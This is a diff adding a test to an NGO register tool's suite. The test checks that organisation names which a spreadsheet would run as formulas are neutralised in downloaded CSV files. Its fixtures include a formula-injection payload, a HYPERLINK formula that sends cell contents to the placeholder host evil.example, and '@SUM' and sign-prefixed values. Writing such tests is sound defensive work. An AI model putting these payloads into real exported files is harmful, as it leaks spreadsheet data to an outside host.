@@ -102,6 +102,20 @@ test('killed at any moment, a run that follows has the same result', async () =>
   assert.deepEqual(index(campaign), index(server.campaign));
 });
 
+test('a name that a spreadsheet would run comes as text in what is downloaded, and byte for byte in the ledger\'s file', async () => {
+  const rows = ngos(20), names = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+7 727', '-1', '@SUM(A1)', "a=b'"];
+  names.forEach((name, i) => { rows[i].name_en = name; });
+  writeFileSync(file, csv(rows));
+  const { code, out } = run('--confirm', '--key', staff('demo-1'), '--url', server.url);
+  assert.equal(code, 0, out);
+  const hash = out.match(/^file ([0-9a-f]{64})$/m)[1];
+  await until(async () => (await server.get(server.api())).json.register === hash, 10, 'the new register');
+  const { text } = await server.get(server.api('/register.csv'));
+  assert.doesNotMatch(text, /(^|,)"?[=+@-]/m);
+  for (const part of [`,"'=HYPERLINK(""https`, `,'+7 727,`, `,'-1,`, `,'@SUM(A1),`, `,a=b',`]) assert.ok(text.includes(part), part);
+  assert.ok((await server.get(`/demo/ledger/files/${hash}`)).text.includes(',+7 727,'));
+});
+
 test('misuse and missing files are said', () => {
   assert.equal(server.run('register').code, 2);
   assert.equal(server.run('register', 'import', '/nothing.csv', '--campaign', server.campaign).code, 2);
